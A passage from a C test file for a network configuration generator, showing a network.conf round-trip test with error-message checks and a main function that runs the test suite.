		      "network.conf %zu parses back to the same config", i);
	}
	parse(roundtrip_inventories[1], NULL, &c);
	inv_network_conf(&c.last.cfg, conf, sizeof(conf));
	CHECK(strcmp(conf, conf_expected) == 0, "network.conf text");
	diag_unless(strcmp(conf, conf_expected) == 0, conf);

	/* The check notices a file that says something else. */
	other = c.last.cfg;
	other.ipv4.prefixlen = 29;
	CHECK(inv_network_conf_check(&other, conf, msg, sizeof(msg)) == -1 &&
	      strcmp(msg, "network.conf parses back to a different configuration"
		     " than the command line") == 0, "round trip: a difference");
	CHECK(inv_network_conf_check(&c.last.cfg, "bogus=1\n", msg,
				     sizeof(msg)) == -1 &&
	      strncmp(msg, "network.conf does not parse back: network.conf:1:"
		      " bogus: unknown key", 66) == 0, "round trip: %s", msg);
}

int main(void)
{
	test_csv();
	test_csv_long();
	test_rows();
	test_bad_rows();
	test_boot_ipxe();
	test_injection();
	test_network_conf();
	test_platform_columns();
	test_secrets_check();
	return tap_done();
}
